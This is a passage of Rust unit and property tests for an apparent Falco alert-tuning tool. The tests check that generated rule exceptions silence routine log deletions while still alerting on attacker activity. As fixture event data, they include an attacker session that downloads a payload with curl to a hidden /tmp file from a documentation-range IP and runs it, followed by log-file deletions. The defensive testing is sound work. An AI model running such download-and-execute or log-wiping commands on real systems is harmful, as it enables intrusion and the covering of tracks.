        assert!(anc.yaml.contains("proc.aname"), "{}", anc.yaml);
        let mut e = quell_rules::engine::Engine::new();
        e.load("rules.yaml", RULES);
        assert!(e.load("local.yaml", &anc.yaml).successful);
        let r = e.rule("Clear Log Activities").unwrap();
        let f = |l: String| quell_events::FlatEvent::from_json_line(&l).unwrap();
        // Deeper under cron still silenced; under a web server still alerting.
        assert!(!r.matches(&f(ev(&["sh", "sh", "sh", "cron", "init"], 4))));
        assert!(r.matches(&f(ev(&["sh", "nginx", "containerd-shim"], 6))));
    }

    /// Every operator the kinds emit loads as a Falco exception (list form) and evaluates
    /// as Falco does on the engine: `=`, `in`, `startswith` with a trailing `/`, `pmatch`
    /// over directories, `glob` over digit runs, `fd.snet` CIDR, a pod prefix.
    #[test]
    fn every_emitted_operator_loads_and_evaluates() {
        let rules = "- rule: Any\n  desc: d\n  condition: evt.type in (openat, connect, unlinkat)\n  output: o\n  priority: NOTICE\n";
        let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
        let cases: Vec<(Gen, &str, &str)> = vec![
            (
                ladder("proc.name", &s(&["rm"]))[0].clone(),
                r#"{"proc.name":"rm"}"#,
                r#"{"proc.name":"rmdir"}"#,
            ),
            (
                ladder("proc.name", &s(&["rm", "unlink"]))[0].clone(),
                r#"{"proc.name":"unlink"}"#,
                r#"{"proc.name":"ln"}"#,
            ),
            (
                ladder("fd.name", &s(&["/srv/app/log/a.log"]))[1].clone(),
                r#"{"fd.name":"/srv/app/log/z.log"}"#,
                r#"{"fd.name":"/srv/app/logs/a.log"}"#,
            ),
            (
                ladder("fd.name", &s(&["/srv/a/x/f", "/srv/b/y/f"]))[1].clone(),
                r#"{"fd.name":"/srv/b/y/other"}"#,
                r#"{"fd.name":"/srv/b/other"}"#,
            ),
            (
                ladder("fd.name", &s(&["/srv/app/seg-0001.log"]))[1].clone(),
                r#"{"fd.name":"/srv/app/seg-0999.log"}"#,
                r#"{"fd.name":"/srv/app/seg-0001.txt"}"#,
            ),
            (
                ladder("fd.sip", &s(&["10.0.3.7", "10.0.3.9"]))[1].clone(),
                r#"{"fd.sip":"10.0.3.200","fd.cip":"192.168.0.1"}"#,
                r#"{"fd.sip":"10.0.4.1","fd.cip":"10.0.3.5"}"#,
            ),
            (
                ladder("k8s.pod.name", &s(&["web-7d9f8c6b5-x2x9k"]))[0].clone(),
                r#"{"k8s.pod.name":"web-5c4d7f9b8-qq2rt"}"#,
                r#"{"k8s.pod.name":"webhook-1"}"#,
            ),
            (
                ladder("proc.cmdline", &s(&["kubectl rollout restart deploy/web"]))[1].clone(),
                r#"{"proc.cmdline":"kubectl rollout status deploy/api"}"#,
                r#"{"proc.cmdline":"kubectl exec -it web -- sh"}"#,
            ),
        ];
        for (g, silenced, alerting) in cases {
            let ex = ExceptionSpec {
                name: "x".into(),
                fields: vec![g.field.clone()],
                comps: vec![g.comp.clone()],
                values: vec![vec![g.value.clone()]],
            };
            let block = block_yaml("Any", &[ex], Style::Override);
            let mut e = quell_rules::engine::Engine::new();
            assert!(e.load("r.yaml", rules).successful);
            let res = e.load("x.yaml", &block);
            assert!(
                res.successful && res.warnings.is_empty(),
                "{block}: {:?} {:?}",
                res.errors,
                res.warnings
            );
            let r = e.rule("Any").unwrap();
            let ev = |j: &str| {
                let mut v: serde_json::Value = serde_json::from_str(j).unwrap();
                v["evt.type"] = "openat".into();
                quell_events::FlatEvent::from_json_line(&v.to_string()).unwrap()
            };
            assert!(
                !r.matches(&ev(silenced)),
                "{block} should silence {silenced}"
            );
            assert!(
                r.matches(&ev(alerting)),
                "{block} should not silence {alerting}"
            );
        }
    }

    #[test]
    fn refuses_when_nothing_separates() {
        let rules = rules();
        let e = del("/usr/bin/rm", "bash", "runc", "/var/log/dpkg.log", "httpd");
        let benign = parse_records(&e, "b").unwrap();
        let keep = parse_records(&e, "k").unwrap();
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &keep, &[]).unwrap();
        let err = synthesize(&vf, &Options::default()).unwrap_err();
        assert!(matches!(err, SynthError::NoSeparation(_)), "{err}");
        assert!(err.to_string().contains("silences 1 keep event"), "{err}");
        let vf = Verifier::new(&rules, "Clear Log Activities", &[], &[], &[]).unwrap();
        assert_eq!(
            synthesize(&vf, &Options::default()).unwrap_err(),
            SynthError::NoBenign
        );
        let other =
            parse_records(r#"{"evt.type":"unlinkat","fs.path.name":"/tmp/x"}"#, "b").unwrap();
        let vf = Verifier::new(&rules, "Clear Log Activities", &other, &[], &[]).unwrap();
        assert!(matches!(
            synthesize(&vf, &Options::default()),
            Err(SynthError::BenignDoNotAlert { .. })
        ));
    }

    #[test]
    fn values_with_quotes_and_spaces_survive() {
        let rules = rules();
        let ev = r#"{"evt.type":"unlinkat","proc.name":"sh","proc.exepath":"/bin/sh","proc.pname":"my app","fs.path.name":"/var/log/a b.log","proc.cmdline":"sh -c \"rm '/var/log/a b.log'\""}"#;
        let benign = parse_records(ev, "b").unwrap();
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &[]).unwrap();
        let p = synthesize(&vf, &Options::default()).unwrap();
        assert!(p.best.verification.passed, "{:#?}", p.best);
        assert!(
            p.best.yaml.contains("my app, /var/log/a b.log]"),
            "{}",
            p.best.yaml
        );
        for c in std::iter::once(&p.best).chain(&p.alternatives) {
            assert!(
                c.verification.loads,
                "{}: {:?}",
                c.yaml, c.verification.errors
            );
        }
    }
}

/// The property of issue 11: a printed exception never silences an event of its own keep
/// set, nor a history alert that triage rates `likely_real` (other than the events a
/// person put in the benign set themselves), whatever mix of operators' and attackers'
/// actions the benign set, the keep set and the history hold.
#[cfg(test)]
mod property {
    use proptest::prelude::*;
    use quell_rules::engine::Engine;

    use super::*;
    use crate::catalogue::Catalogue;
    use crate::history::History;
    use crate::input::parse_records;
    use crate::triage::{Lang, Triage, Verdict};
    use crate::verify::RulesFile;
    use proptest::test_runner::TestCaseError;

    const RULES: &str = "- rule: Clear Log Activities\n  desc: d\n  condition: evt.type = unlinkat and fs.path.name startswith /var/log/\n  output: o %proc.name %fs.path.name %proc.cmdline\n  priority: WARNING\n";

    /// One deletion of a log, by someone, in a session (`sid`); attackers' sessions first
    /// download and run a payload.
    #[derive(Clone, Debug)]
    struct Del {
        actor: &'static str,
        parent: &'static str,
        gparent: &'static str,
        path: &'static str,
        user: &'static str,
        tty: i64,
        attack: bool,
    }

    fn del() -> impl Strategy<Value = Del> {
        (
            // `sh`/`dash`: a shell's program (`sh -c rm -f PATH`), widened to a regex, one
            // row per program shape.
            prop::sample::select(vec!["rm", "logrotate", "python3", "find", "sh", "dash"]),
            prop::sample::select(vec!["bash", "sh", "cron"]),
            prop::sample::select(vec!["runc", "sshd", "httpd", "cron", "nginx"]),
            prop::sample::select(vec![
                "/var/log/dpkg.log",
                "/var/log/app/web.1.log",
                "/var/log/app/web.2.log",
                "/var/log/auth.log",
                // A versioned directory (`[0-9]+([.][0-9]+)*` in a shell's program).
                "/var/log/pg/16/main.log",
            ]),
            prop::sample::select(vec!["root", "www-data"]),
            prop::sample::select(vec![0i64, 34816]),
            any::<bool>(),
        )
            .prop_map(|(actor, parent, gparent, path, user, tty, attack)| Del {
                actor,
                parent,
                gparent,
                path,
                user,
                tty,
                attack,
            })
    }

    fn lines(d: &Del, sid: usize) -> Vec<String> {
        let exe = if d.actor == "logrotate" {
            "/usr/sbin/logrotate".to_string()
        } else {
            format!("/usr/bin/{}", d.actor)
        };
        let cmd = match d.actor {
            "python3" => format!("python3 /opt/jobs/clean.py {}", d.path),
            "find" => format!(
                "find /var/log -name {} -delete",
                d.path.rsplit('/').next().unwrap_or("")
            ),
            "sh" => format!("sh -c rm -f {}", d.path),
            "dash" => format!("dash -c rm {}", d.path),
            a => format!("{a} {}", d.path),
        };
        let common = format!(
            r#""proc.sid":{sid},"proc.tty":{},"user.name":"{}","container.id":"c{sid}","proc.pname":"{}","proc.aname[1]":"{}","proc.aname[2]":"{}""#,
            d.tty, d.user, d.parent, d.parent, d.gparent
        );
        let mut out = Vec::new();
        let t = 1_700_000_000_000_000_000u64 + (sid as u64) * 1_000_000_000;
        if d.attack {
            out.push(format!(
                r#"{{"evt.type":"execve","evt.rawtime":{t},"proc.pid":{},"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -s -o /tmp/.u http://203.0.113.7/p",{common}}}"#,
                sid * 10
            ));
            out.push(format!(
                r#"{{"evt.type":"execve","evt.rawtime":{},"proc.pid":{},"proc.name":".u","proc.exepath":"/tmp/.u","proc.cmdline":".u",{common}}}"#,
                t + 1000,
                sid * 10 + 1
            ));
        }
        out.push(format!(
            r#"{{"evt.type":"unlinkat","evt.rawtime":{},"proc.pid":{},"proc.name":"{}","proc.exepath":"{exe}","proc.cmdline":"{cmd}","fs.path.name":"{}",{common}}}"#,
            t + 2000,
            sid * 10 + 2,
            d.actor,
            d.path
        ));
        out
    }

    /// One case: the mix of deletions `dels` (plus a web shell's deletion of
    /// `web_shell_path` after a download, always in the history), the operators' ones
    /// picked into the benign set, the attackers' ones into the keep set. Checks the
    /// property on the printed exception and on every alternative that passes (those are
    /// printed too, with `--json` and as notes); returns whether an exception was printed.
    fn check_case(
        dels: &[Del],
        web_shell_path: &'static str,
        benign_pick: &[bool],
        keep_pick: &[bool],
    ) -> Result<bool, TestCaseError> {
        let mut all = dels.to_vec();
        all.push(Del {
            actor: "rm",
            parent: "sh",
            gparent: "httpd",
            path: web_shell_path,
            user: "www-data",
            tty: 0,
            attack: true,
        });
        let mut history_lines = Vec::new();
        let mut benign_lines = Vec::new();
        let mut keep_lines = Vec::new();
        for (i, d) in all.iter().enumerate() {
            let ls = lines(d, i + 1);
            let deletion = ls.last().cloned().unwrap_or_default();
            if !d.attack && benign_pick[i % benign_pick.len()] {
                benign_lines.push(deletion.clone());
            } else if keep_pick[i % keep_pick.len()] && d.attack {
                keep_lines.push(deletion.clone());
            }
            history_lines.extend(ls);
        }
        prop_assume!(!benign_lines.is_empty());
        let history = parse_records(&history_lines.join("\n"), "h").unwrap();
        let benign = parse_records(&benign_lines.join("\n"), "b").unwrap();
        let keep = parse_records(&keep_lines.join("\n"), "k").unwrap();
        let rules = vec![RulesFile {
            name: "r.yaml".into(),
            text: RULES.into(),
        }];
        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &keep, &history).unwrap();
        // Triage of the history, independently of the verifier.
        let mut base = Engine::new();
        base.load("r.yaml", RULES);
        let cat = Catalogue::builtin();
        let prior = History::empty();
        let reports = Triage {
            engine: &base,
            catalogue: &cat,
            history: &prior,
            lang: Lang::En,
            hostname: "",
        }
        .run(&history);
        let rated = |v: Verdict| -> Vec<usize> {
            reports
                .iter()
                .filter(|r| r.rule == "Clear Log Activities" && r.verdict == v)
                .flat_map(|r| r.members.iter().copied())
                .filter(|&i| !benign.iter().any(|b| b.event == history[i].event))
                .collect()
        };
        let real = rated(Verdict::LikelyReal);
        // Tune refuses what triage is not sure of either: uncertain alerts stay alerting too.
        let unsure = rated(Verdict::Uncertain);
        prop_assert!(
            !real.is_empty(),
            "the web shell's deletion is triaged likely real"
        );
        let p = match synthesize(
            &vf,
            &Options {
                max_alternatives: 40,
                ..Options::default()
            },
        ) {
            Ok(p) => p,
            // A refusal names what refuses it: a keep event, or a history alert that is
            // not known to be benign.
            Err(SynthError::Blocked { why, .. }) => {
                prop_assert!(
                    why.contains("likely_real")
                        || why.contains("uncertain")
                        || why.contains("marked real"),
                    "{why}"
                );
                return Ok(false);
            }
            Err(SynthError::NoSeparation(_)) => return Ok(false),
            Err(e) => return Err(TestCaseError::fail(format!("unexpected refusal: {e}"))),
        };
        prop_assert!(p.best.verification.passed);
        let printed =
            std::iter::once(&p.best).chain(p.alternatives.iter().filter(|c| c.verification.passed));
        for c in printed {
            let mut tuned = Engine::new();
            tuned.load("r.yaml", RULES);
            let res = tuned.load("local.yaml", &c.yaml);
            prop_assert!(res.successful, "{:?}", res.errors);
            let rule = tuned.rule("Clear Log Activities").unwrap();
            for &i in real.iter().chain(&unsure) {
                prop_assert!(
                    rule.matches(&history[i].event),
                    "{} silences likely-real or uncertain history line {}:\n{}",
                    c.template,
                    i + 1,
                    c.yaml
                );
            }
            for k in &keep {
                prop_assert!(
                    rule.matches(&k.event),
                    "{} silences a keep event:\n{}",
                    c.template,
                    c.yaml
                );
            }
            for b in &benign {
                prop_assert!(
                    !rule.matches(&b.event),
                    "{} leaves a benign event alerting:\n{}",
                    c.template,
                    c.yaml
                );
            }
        }
        Ok(true)
    }

    /// The property over generated mixes; and the property is not met vacuously: most
    /// cases print an exception (a refusal is checked for naming its cause, but a run
    /// where every case is refused would prove nothing about printed exceptions).
    #[test]
    fn printed_exceptions_never_silence_keep_or_likely_real_history() {
        let config = ProptestConfig {
            cases: 24,
            source_file: Some(file!()),
            ..ProptestConfig::default()
        };
        let mut runner = proptest::test_runner::TestRunner::new(config);
        let printed = std::cell::Cell::new(0usize);
        let tried = std::cell::Cell::new(0usize);
        let strategy = (
            proptest::collection::vec(del(), 2..7),
            prop::sample::select(vec![
                "/var/log/dpkg.log",
                "/var/log/app/web.1.log",
                "/var/log/pg/16/main.log",
            ]),
            proptest::collection::vec(any::<bool>(), 7),
            proptest::collection::vec(any::<bool>(), 7),
        );
        let res = runner.run(&strategy, |(dels, web, bp, kp)| {
            let ok = check_case(&dels, web, &bp, &kp)?;
            tried.set(tried.get() + 1);
            printed.set(printed.get() + usize::from(ok));
            Ok(())
        });
        if let Err(e) = res {
            panic!("{e}");
        }
        eprintln!(
            "printed an exception in {} of {} cases",
            printed.get(),
            tried.get()
        );
        assert!(
            printed.get() * 2 >= tried.get() && printed.get() > 0,
            "only {} of {} cases printed an exception",
            printed.get(),
            tried.get()
        );
    }
}
